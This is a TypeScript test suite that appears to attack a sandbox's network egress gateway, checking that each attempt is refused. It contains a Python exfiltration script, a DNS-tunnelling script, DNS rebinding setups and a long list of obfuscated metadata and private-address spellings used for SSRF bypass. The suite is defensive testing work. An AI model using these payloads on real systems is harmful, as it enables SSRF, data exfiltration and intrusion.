import { createServer } from "node:net";
import { expect } from "vitest";
import type { TestSandbox } from "../support/api.ts";
import { attack, openLab, PYTHON } from "../support/attack.ts";
import { CLIENT_SCRIPT, send, sendAll, statuses } from "../support/attack-client.ts";
import { CLIENT, NAME_SERVER, type TestHost } from "../support/internet/index.ts";

/** Past the destination rules: DNS, UDP, ICMP, IPv6, private and link-local addresses in every spelling, rebinding. */

const ALLOWED = "api.example-allowed.com";
const WILD = "*.example-wild.com";
const METADATA = "169.254.169.254";
const PRIVATE = ["10.11.12.13", "172.16.9.9", "192.168.77.77", "100.64.1.1"];

let allowed: TestHost;
let trap: TestHost;
let metadata: TestHost;
let intranet: TestHost;

/** Raw TCP and plain HTTP to the allowed names; every binary. */
const POLICY = `version: 1
network_policies:
  api:
    endpoints:
      - {host: ${ALLOWED}, ports: [80, 443, 7]}
      - {host: "${WILD}", ports: [80, 443, 8080]}
      - {host: ${METADATA}, port: 80}
      - {host: 127.0.0.1, ports: [80, 17670]}
      - {host: 28.55.0.53, port: 53}
    binaries: [{path: "/**"}]
`;

openLab({
  scripts: {
    ...CLIENT_SCRIPT,
    // Sends one datagram or opens one connection; prints "sent", "connected" or errno.
    // Standard input: JSON list of [kind, host, port]. Sends a datagram or opens a connection; "sent", "connected" or errno.
    "knock.py": `import socket,sys,errno,json
from concurrent.futures import ThreadPoolExecutor
data=b"exfiltrated-secret\\n"
def knock(one):
    kind,host,port=one
    out=[]
    try:
        family=socket.AF_INET6 if ":" in host else socket.AF_INET
        if kind=="tcp":
            s=socket.create_connection((host,port),4); out.append("connected"); s.sendall(data); out.append(s.recv(400).decode("latin1"))
        elif kind=="icmp":
            s=socket.socket(family,socket.SOCK_DGRAM,58 if family==socket.AF_INET6 else 1); s.sendto(b"\\x08\\0\\0\\0\\0\\0\\0\\0"+data,(host,0)); out.append("sent")
        else:
            s=socket.socket(family,socket.SOCK_DGRAM); s.settimeout(1); s.sendto(data,(host,port)); out.append("sent")
    except OSError as e: out.append(errno.errorcode.get(e.errno or 0, type(e).__name__))
    return "\\n".join(out)
with ThreadPoolExecutor(16) as pool: print(json.dumps(list(pool.map(knock,json.load(sys.stdin)))))
`,
  },
  prepare: async (net, witness) => {
    allowed = await net.host(ALLOWED);
    trap = await net.host("trap.example-other.net", {
      services: [
        { kind: "http", port: 80 },
        { kind: "https", port: 443 },
        { kind: "tcp", port: 53 },
        { kind: "udp", port: 53, echo: true },
        { kind: "udp", port: 4433, echo: true },
        { kind: "udp", port: 443, echo: true },
        { kind: "tcp", port: 853 },
      ],
    });
    metadata = await net.host("metadata.example-other.net", {
      addresses: [METADATA, "fd00:ec2::254"],
      services: [{ kind: "http", port: 80 }],
    });
    intranet = await net.host("intranet.example-other.net", {
      addresses: [...PRIVATE, "fd12:3456::1", "fc00::7"],
      services: [
        { kind: "http", port: 80 },
        { kind: "https", port: 443 },
      ],
    });
    for (const host of [trap, metadata, intranet]) witness.trap(host);
  },
  box: () => ({ policy: POLICY }),
});

type Knock = readonly [kind: "tcp" | "udp" | "icmp", host: string, port: number];

/** What came of each, in order; all at once. */
async function knockAll(box: TestSandbox, knocks: readonly Knock[]): Promise<readonly string[]> {
  const { stdout, stderr } = await box.exec([PYTHON, "/attack/knock.py"], { stdin: JSON.stringify(knocks) });
  if (stderr !== "") throw new Error(stderr);
  return (JSON.parse(stdout) as string[]).map((text) => text.trim());
}

async function knock(box: TestSandbox, ...one: Knock): Promise<string> {
  return (await knockAll(box, [one]))[0]!;
}

/** Each outcome matches; the message names those that do not. */
async function expectKnocks(box: TestSandbox, knocks: readonly Knock[], pattern: RegExp): Promise<void> {
  const outcomes = await knockAll(box, knocks);
  const others = knocks.map((one, index) => `${one.join(" ")}: ${outcomes[index]}`);
  expect(others.filter((_, index) => !pattern.test(outcomes[index]!))).toEqual([]);
}

const REFUSED_TCP =
  /^(connected\n(ECONNRESET|HTTP\/1\.1 40[03][\s\S]*|TimeoutError)|connected|E[A-Z]+|gaierror|TimeoutError)$/;

/** Statuses that the explicit proxy gives to CONNECT and to an absolute target with each authority (UTF-8 as bytes). */
async function askAll(
  box: TestSandbox,
  targets: readonly (readonly [host: string, port: number])[],
): Promise<string[]> {
  const shots = targets.flatMap(([text, port]) => {
    const host = Buffer.from(text).toString("latin1");
    const head = `HTTP/1.1\r\nHost: ${host}:${port}\r\n\r\n`;
    return [{ bytes: `CONNECT ${host}:${port} ${head}` }, { bytes: `GET http://${host}:${port}/ ${head}` }];
  });
  const answers = (await sendAll(box, shots)).map((answer) => statuses(answer)[0] ?? "closed");
  return targets.map((_, index) => `${answers[2 * index]} ${answers[2 * index + 1]}`);
}

async function ask(box: TestSandbox, host: string, port = 80): Promise<string> {
  return (await askAll(box, [[host, port]]))[0]!;
}

/** Every authority is refused in both ways; the message names those that are not. */
async function expectAllRefused(
  box: TestSandbox,
  hosts: readonly string[],
  expected: string,
  port = 80,
): Promise<void> {
  const one = `(${expected.split(" or ").join("|")})`;
  const pattern = new RegExp(`^${one} ${one}$`);
  const answers = await askAll(
    box,
    hosts.map((host) => [host, port]),
  );
  const others = hosts.map((host, index) => `${host}: ${answers[index]}`).filter((_, i) => !pattern.test(answers[i]!));
  expect(others).toEqual([]);
}

attack(
  "allowed traffic, so that refusals below mean something",
  "the allowed host gets it",
  { root: "connected", user: "connected" },
  async ({ box }, expected) => {
    allowed.clearReceived();
    expect(await knock(box, "tcp", ALLOWED, 7)).toBe(`${expected}\nexfiltrated-secret`);
    expect(await ask(box, ALLOWED)).toBe("200 200");
    expect(allowed.received().connections.length).toBeGreaterThanOrEqual(2);
  },
);

attack(
  "exfiltration by DNS names, of any type, to the sandbox's own resolver",
  "no query leaves; the name server outside sees none of the names",
  { root: "answered inside", user: "answered inside" },
  async ({ box, net }) => {
    net.dns.clearQueries();
    const before = JSON.stringify(net.dns.namespace.counters());
    const script = `import socket,struct,random,sys
def ask(name,kind,tcp=False):
    q=struct.pack(">HHHHHH",random.randrange(65536),0x100,1,0,0,0)+b"".join(bytes([len(l)])+l.encode() for l in name.split("."))+b"\\0"+struct.pack(">HH",kind,1)
    try:
        if tcp:
            s=socket.create_connection(("127.0.0.1",53),3); s.sendall(struct.pack(">H",len(q))+q); return len(s.recv(4096))
        s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(2); s.sendto(q,("127.0.0.1",53)); return len(s.recv(4096))
    except OSError as e: return str(e)
for kind in (1,28,16,5,15,33,65,255,12,6,2,257,10):
    ask("secret%d.exfil.example-other.net"%kind,kind); ask("secret%d.${ALLOWED}"%kind,kind,True)
for n in range(40): ask("a%d.%s.exfil.example-other.net"%(n,"x"*60),1)
for n in ("secret.exfil.example-other.net","${ALLOWED}"):
    try: print(socket.getaddrinfo(n,443)[0][4][0])
    except OSError as e: print(e)`;
    const { stdout } = await box.exec([PYTHON, "-c", script]);
    for (const line of stdout.trim().split("\n")) expect(line).toMatch(/^198\.1[89]\./);
    expect(net.dns.queries()).toEqual([]);
    expect(JSON.stringify(net.dns.namespace.counters())).toBe(before);
  },
);

attack(
  "DNS over other ways: UDP 53, TCP 53 and DNS over TLS to a host outside, the gateway's resolver by address",
  "neither the trap host nor the name server gets a packet",
  { root: "ENETUNREACH", user: "ENETUNREACH" },
  async ({ box, net }, expected) => {
    const before = JSON.stringify(net.dns.namespace.counters());
    const hosts = [trap.ipv4, trap.ipv6, NAME_SERVER.ipv4, NAME_SERVER.ipv6];
    const unreachable = new RegExp(`^(${expected}|EADDRNOTAVAIL|EHOSTUNREACH)$`);
    await expectKnocks(
      box,
      hosts.map((host) => ["udp", host, 53]),
      unreachable,
    );
    // The name server is in the policy by its address, and still never reachable: it belongs to the gateway.
    await expectKnocks(
      box,
      hosts.flatMap((host): Knock[] => [
        ["tcp", host, 53],
        ["tcp", host, 853],
      ]),
      REFUSED_TCP,
    );
    expect(await ask(box, NAME_SERVER.ipv4, 53)).toBe("403 403");
    expect(JSON.stringify(net.dns.namespace.counters())).toBe(before);
  },
);

attack(
  "UDP (QUIC among it), ICMP and multicast to hosts outside, also to allowed ones",
  "no datagram and no echo request arrives anywhere",
  { root: "unreachable at once", user: "unreachable at once" },
  async ({ box }) => {
    allowed.clearReceived();
    const before = allowed.packets();
    const { stdout: synthetic } = await box.exec([
      PYTHON,
      "-c",
      `import socket; print(socket.gethostbyname("${ALLOWED}"))`,
    ]);
    const targets = [trap.ipv4, trap.ipv6, allowed.ipv4, allowed.ipv6, synthetic.trim(), METADATA, CLIENT.ipv4];
    const all = [...targets, "224.0.0.251", "ff02::fb", "255.255.255.255"];
    const udps = all.flatMap((host): Knock[] => [443, 53, 4433].map((port) => ["udp", host, port]));
    await expectKnocks(box, [...udps, ...all.map((host): Knock => ["icmp", host, 0])], /^(E[A-Z]+|PermissionError)$/);
    const { udp, echoRequests } = allowed.packets();
    expect({ udp, echoRequests }).toEqual({ udp: before.udp, echoRequests: before.echoRequests });
  },
  60_000,
);

attack(
  "TCP by address to hosts that the policy does not name, IPv4 and IPv6, without proxy variables",
  "the trap host gets no segment",
  { root: "reset or 403", user: "reset or 403" },
  async ({ box }) => {
    const hosts = [trap.ipv4, trap.ipv6, `::ffff:${trap.ipv4}`, ...PRIVATE, "fd12:3456::1", "fe80::2%lo"];
    const knocks = hosts.flatMap((host): Knock[] => [80, 443, 22].map((port) => ["tcp", host, port]));
    await expectKnocks(box, knocks, REFUSED_TCP);
  },
  60_000,
);

attack(
  "loopback and link-local addresses that the policy names in so many words",
  "the metadata host gets nothing, the gateway no connection from a sandbox",
  { root: "403 403", user: "403 403" },
  async ({ box }, expected) => {
    for (const [host, port] of [
      [METADATA, 80],
      ["127.0.0.1", 80],
      ["127.0.0.1", 17_670],
    ] as const) {
      expect(await ask(box, host, port), `${host}:${port}`).toBe(expected);
    }
    expect(await knock(box, "tcp", METADATA, 80)).not.toContain("200");
    await box.logged(/169\.254\.169\.254.*engine:ssrf/);
  },
);

attack(
  "private and link-local addresses in every spelling: decimal, octal, hex, short, mapped, 6to4, NAT64, dots, escapes",
  "metadata and intranet hosts get nothing",
  { root: "400 or 403", user: "400 or 403" },
  async ({ box }, expected) => {
    const spelled = [
      ...["2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "169.16689662", "0xa9.254.169.0xfe"],
      ...["169.254.169.254.", "169.254.169.254%00", "169.254.169.254%2e", "169.254.169.0254", "169.254.169.254%20"],
      ...["[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[::169.254.169.254]", "[::a9fe:a9fe]"],
      ...["[2002:a9fe:a9fe::]", "[64:ff9b::a9fe:a9fe]", "[64:ff9b:1::a9fe:a9fe]", "[2001:0:a9fe:a9fe::5601:5601]"],
      ...["[fe80::5efe:a9fe:a9fe]", "[fe80::1%25lo]", "[fd00:ec2::254]", "[::]", "[::1]", "0", "0.0.0.0", "127.1"],
      ...["0x7f.1", "2130706433", "017700000001", "localhost", "LOCALHOST.", "127.0.0.1.nip.io", "[::ffff:127.0.0.1]"],
      ...["10.11.12.13", "168496141", "0xa0b0c0d", "012.013.014.015", "172.16.9.9", "192.168.77.77", "100.64.1.1"],
      ...[
        "[fd12:3456::1]",
        "[fc00::7]",
        "[::ffff:10.11.12.13]",
        "10.11.12.13.",
        "１６９.２５４.１６９.２５４",
        "169。254。169。254",
      ],
      ...["user@169.254.169.254", "api.example-allowed.com@169.254.169.254", "169.254.169.254#api.example-allowed.com"],
      ...["169.254.169.254\\.example-wild.com", "169.254.169.254/.example-wild.com", "[v1.a9fe]", "[169.254.169.254]"],
    ];
    await expectAllRefused(box, spelled, expected);
  },
  120_000,
);

attack(
  "allowed names that resolve to private, loopback, link-local or mapped addresses, alone or beside a public one",
  "metadata, intranet and gateway get nothing",
  { root: "403", user: "403" },
  async ({ box, net }, expected) => {
    const answers = [
      ...[METADATA, "127.0.0.1", "0.0.0.0", CLIENT.ipv4.replace("28.55", "10.11"), ...PRIVATE].map((A) => ({ A: [A] })),
      ...[
        "::1",
        "fe80::2",
        "fd00:ec2::254",
        "fd12:3456::1",
        `::ffff:${METADATA}`,
        "64:ff9b::a9fe:a9fe",
        "2002:a9fe:a9fe::1",
      ].map((AAAA) => ({ AAAA: [AAAA] })),
      { A: [trap.ipv4, METADATA] },
      { A: [allowed.ipv4], AAAA: ["fd12:3456::1"] },
      { CNAME: "inner.example-zone.org" },
    ];
    net.dns.set("inner.example-zone.org", { A: ["10.11.12.13"] });
    const names = answers.map((_, index) => `n${index}.example-wild.com`);
    for (const [index, name] of names.entries()) net.dns.set(name, answers[index]!);
    await expectAllRefused(box, names, expected);
  },
  90_000,
);

attack(
  "rebinding: the name answers with a public address first and a private one afterwards, and the other way round",
  "each connection goes to an address that was checked; intranet and metadata get nothing",
  { root: "200 then 403", user: "200 then 403" },
  async ({ box, net }) => {
    for (const [index, inner] of [METADATA, "127.0.0.1", "10.11.12.13"].entries()) {
      const name = `rebind${index}.example-wild.com`;
      net.dns.setSequence(name, [{ A: [allowed.ipv4] }, { A: [inner] }]);
      const first = await send(box, `CONNECT ${name}:80 HTTP/1.1\r\nHost: ${name}\r\n\r\n`);
      const second = await send(box, `CONNECT ${name}:80 HTTP/1.1\r\nHost: ${name}\r\n\r\n`);
      expect(statuses(first + second)).toEqual([200, 403]);
      // Many at once while the answer flips: none may reach the private side.
      net.dns.set(name, (_type, asked) => ({ A: [asked % 2 === 0 ? allowed.ipv4 : inner] }));
      const script = `for i in 1 2 3 4 5 6 7 8; do curl -s -o /dev/null -m 5 -w '%{http_code}\\n' http://${name}/ & done; wait`;
      const { stdout } = await box.sh(script);
      for (const line of stdout.trim().split("\n")) expect(line).toMatch(/^(200|403|502|000)$/);
    }
  },
  60_000,
);

attack(
  "the gateway's own ports and other listeners of the machine through allowed names and addresses of the machine",
  "a listener on the machine gets no connection; the gateway's log has none",
  { root: "403", user: "403" },
  async ({ box, net, gateway }, expected) => {
    const status = JSON.parse(await gateway.user.ok(["gateway", "status", "-o", "json"]).catch(() => "{}")) as {
      endpoint?: string;
    };
    const port = Number(new URL(status.endpoint ?? "https://127.0.0.1:17670").port);
    net.dns.set("self.example-wild.com", { A: ["127.0.0.1"] });
    net.dns.set("self6.example-wild.com", { AAAA: ["::1"] });
    // A service of the owner's on the machine's public address.
    let connections = 0;
    const service = createServer((socket) => {
      connections += 1;
      socket.destroy();
    });
    await new Promise<void>((done) => service.listen(8080, "::", done));
    net.dns.set("public.example-wild.com", { A: [CLIENT.ipv4] });
    net.dns.set("public6.example-wild.com", { AAAA: [CLIENT.ipv6] });
    const hosts = [
      ...["127.0.0.1", "self.example-wild.com", "self6.example-wild.com", "localhost", "[::1]"],
      ...["public.example-wild.com", "public6.example-wild.com", CLIENT.ipv4, `[${CLIENT.ipv6}]`],
    ];
    for (const target of [port, 80, 8080]) await expectAllRefused(box, hosts, expected, target);
    await new Promise((done) => service.close(done));
    expect(connections).toBe(0);
  },
);

attack(
  "services of the sandbox itself and of neighbours on loopback",
  "127.0.0.1 inside is the sandbox's own; a neighbour's server is not there",
  { root: "ECONNREFUSED", user: "ECONNREFUSED" },
  async ({ box, create }, expected) => {
    await using neighbour = await create({ command: ["python3", "-m", "http.server", "8099", "--bind", "0.0.0.0"] });
    await neighbour.sh(
      "for i in 1 2 3 4 5 6 7 8 9 10; do curl -s --noproxy '*' -o /dev/null 127.0.0.1:8099 && break; sleep 0.2; done",
    );
    expect((await neighbour.sh("curl -s --noproxy '*' -o /dev/null -w '%{http_code}' 127.0.0.1:8099")).stdout).toBe(
      "200",
    );
    expect(await knock(box, "tcp", "127.0.0.1", 8099)).toBe(expected);
    expect(await knock(box, "tcp", "::1", 8099)).toBe(expected);
  },
);

attack(
  "names that look allowed: other depth, other case, trailing dots, look-alikes, NUL",
  "the trap host, to which all of them resolve, gets nothing",
  { root: "400 or 403", user: "400 or 403" },
  async ({ box, net }, expected) => {
    const names = [
      ...[
        "example-wild.com",
        "a.b.example-wild.com",
        "xexample-wild.com",
        "example-wild.com.evil.net",
        "a.example-wild.com.evil.net",
      ],
      ...[
        "api.example-allowed.com.evil.net",
        "api-example-allowed.com",
        "xapi.example-allowed.com",
        "a.api.example-allowed.com",
      ],
      ...["api.example-allowed.com\x00.evil.net", "api.example-allowed.com%00.evil.net", "api%2eexample-allowed.com"],
      ...["аpi.example-allowed.com", "api.example-allowed.com..", ".example-wild.com", "-.example-wild.com"],
    ];
    net.dns.set("*.net", { A: [trap.ipv4] });
    for (const name of names) net.dns.set(name, { A: [trap.ipv4] });
    await expectAllRefused(box, names, expected);
    net.dns.delete("*.net");
  },
);

attack(
  "addresses of the synthetic pool that stand for no name, and foreign use of one that does",
  "nothing leaves",
  { root: "reset or 403", user: "reset or 403" },
  async ({ box }) => {
    const hosts = ["198.18.0.0", "198.18.255.1", "198.19.255.254", "198.20.0.1"];
    await expectKnocks(
      box,
      hosts.map((host) => ["tcp", host, 80]),
      REFUSED_TCP,
    );
    await expectAllRefused(box, hosts, "403");
  },
);
